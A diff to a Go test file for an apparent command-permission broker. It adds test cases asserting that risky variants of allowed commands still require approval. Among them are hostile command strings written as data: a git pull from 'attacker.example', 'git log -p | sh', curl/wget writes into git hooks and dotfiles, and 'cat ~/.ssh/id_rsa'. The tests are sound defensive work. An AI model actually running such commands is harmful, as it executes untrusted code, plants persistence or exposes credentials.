@@ -54,8 +54,9 @@ func TestRememberedPrefixCoversOnlyWhatItStandsFor(t *testing.T) {
 			[]string{"cargo test --config 'target.x.runner=\"./evil\"'", "cargo test --manifest-path /tmp/evil/Cargo.toml",
 				"cargo test --target-dir /home/u/.cargo", "cargo test -Zunstable-options", "cargo run", "cargo test -- --logfile /home/u/.bashrc"}},
 		{"git push origin main", []string{"git push origin feature", "git push --tags"},
-			[]string{"git push --receive-pack=./evil origin", "git push --exec=./evil origin", "git -c core.sshCommand=./evil push", "git -C /tmp push"}},
-		{"git log --oneline", []string{"git log -p"}, []string{"git log --output=/home/u/.bashrc", "git log --output /tmp/x"}},
+			[]string{"git push --receive-pack=./evil origin", "git push --exec=./evil origin", "git -c core.sshCommand=./evil push", "git -C /tmp push", "git pull https://attacker.example/x main"}},
+		{"git pull origin main", []string{"git pull origin main"}, []string{"git pull https://attacker.example/x main", "git pull origin other"}},
+		{"git log --oneline", []string{"git log -p"}, []string{"git log --output=/home/u/.bashrc", "git log --output /tmp/x", "git log > .git/hooks/pre-commit", "git log >> /home/u/.bashrc", "git log -p | sh"}},
 		{"make deploy prod", []string{"make deploy prod"}, []string{"make deploy staging", "make deploy --eval='x:;sh'", "make deploy -f /tmp/evil.mk"}},
 		{"sed -n 1p README.md", []string{"sed -n 1p README.md"}, []string{"sed -i s/a/b/ README.md", "sed -n 1p .acp-broker.toml"}},
 		{"yarn test foo", []string{"yarn test bar"}, []string{"yarn test --script-shell=./evil.sh", "yarn test --watch", "yarn build"}},
@@ -159,7 +160,7 @@ func TestProtectedArguments(t *testing.T) {
 	must(t, err)
 	other := filepath.Join(dir, "other-repo")
 	must(t, os.MkdirAll(filepath.Join(other, ".git"), 0o755))
-	p := policyFrom(t, "[[rule]]\ndecision = \"allow\"\ncommand = [\"cp *\", \"mv *\", \"tar *\", \"rm *\", \"ls *\", \"grep *\", \"cat *\", \"git *\", \"unzip *\", \"rsync *\", \"make *\", \"find *\", \"python3 *\", \"tee *\", \"chmod *\", \"ln *\", \"install *\", \"sed *\", \"dd *\", \"touch *\", \"go *\", \"cargo *\", \"npm *\"]\n")
+	p := policyFrom(t, "[[rule]]\ndecision = \"allow\"\ncommand = [\"cp *\", \"mv *\", \"tar *\", \"rm *\", \"ls *\", \"grep *\", \"cat *\", \"git *\", \"unzip *\", \"rsync *\", \"make *\", \"find *\", \"python3 *\", \"tee *\", \"chmod *\", \"ln *\", \"install *\", \"sed *\", \"dd *\", \"touch *\", \"go *\", \"cargo *\", \"npm *\", \"curl *\", \"wget *\"]\n")
 	asked := []string{
 		"cp -r x .", "cp x ~", "cp x /home/u", "cp x ~/.config", "cp x ..", "cp x /", "cp -t . x", "cp --target-directory=~ x",
 		"cp x .git/hooks/pre-commit", "cp x .acp-broker.toml", "cp x " + other, "mv x ~/.ssh", "mv .git/hooks/x y",
@@ -170,11 +171,14 @@ func TestProtectedArguments(t *testing.T) {
 		"install -m 755 x ~/.config/zed/settings.json", "sed -i s/a/b/ .git/config", "sed -ni s/a/b/ .git/config", "sed --in-place=.bak s/a/b/ .", "dd if=x of=.git/hooks/pre-commit", "touch ~/.emacs",
 		"cp x ~/.config/nvim/init.lua", "cp x ~/.jetbrains/acp.json", "cp x ~/.emacs.d/init.el", "go build -o ~/.config/acp-broker/x .",
 		"cargo build --target-dir ~", "npm --prefix ~ install", "cat ~/.ssh/id_rsa",
+		"tar -xvC ~ -f p.tar", "tar xvCf ~ p.tar", "cp -rt ~ x", "curl -o .git/hooks/pre-commit https://x", "curl --output-dir ~ -O https://x/.bashrc",
+		"wget -P ~/.config https://x/y", "wget -O .acp-broker.toml https://x/y",
 	}
 	allowed := []string{
 		"ls .", "ls ~", "grep -r foo .", "cat .git/config", "cat ~/.config/zed/settings.json", "ls .git", "git status .", "git diff .",
 		"git log -- .git", "cp x build/", "cp a b", "mv a b", "tar xf p.tar -C build", "rm -rf build", "find . -name x", "grep -C 3 foo .",
-		"cp -r src dst", "git add .", "touch README.md", "sed -n 1p .git/config",
+		"cp -r src dst", "git add .", "touch README.md", "sed -n 1p .git/config", "tar -xvf p.tar", "tar xvf p.tar", "curl -o out.json https://x",
+		"wget -P downloads https://x/y",
 	}
 	for _, cmd := range asked {
 		if v := decide(t, p, cmdCall(cmd)); v.Decision == Allow {
